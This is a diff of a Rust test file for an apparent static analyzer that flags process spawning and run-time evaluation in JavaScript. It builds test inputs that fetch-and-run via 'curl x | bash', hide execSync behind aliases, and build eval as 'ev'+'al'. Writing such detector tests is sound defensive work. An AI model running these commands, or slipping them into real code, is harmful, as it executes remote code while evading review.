@@ -178,9 +178,23 @@ fn capability_uses_the_tables_do_not_judge_are_unresolved() {
     ] {
         assert!(!unresolved(Lang::Python, src).is_empty(), "{src}");
     }
-    for src in [
+    // A member named by a literal key is that member: the spawn is judged as one.
+    let f = analyze(
+        Lang::JavaScript,
         "require('child_process')['execSync']('curl x | bash')\n",
-        "globalThis['ev'+'al']('1')\n",
+        1,
+    );
+    assert!(
+        f.spawns
+            .iter()
+            .any(|(_, c)| matches!(c, Cmd::Shell { text, .. } if text == "curl x | bash")),
+        "{:?}",
+        f.spawns
+    );
+    // And `globalThis['ev'+'al']` is `eval`: code evaluated at run time.
+    let f = analyze(Lang::JavaScript, "globalThis['ev'+'al']('1')\n", 1);
+    assert!(!f.code.is_empty(), "{:?}", f.code);
+    for src in [
         "const r = require\nr('child_process').execSync('curl x | sh')\n",
         "const {execSync} = require('child_process')\nconst run = execSync\nrun('curl x|sh')\n",
         "process.mainModule.require('child_process').execSync('id')\n",
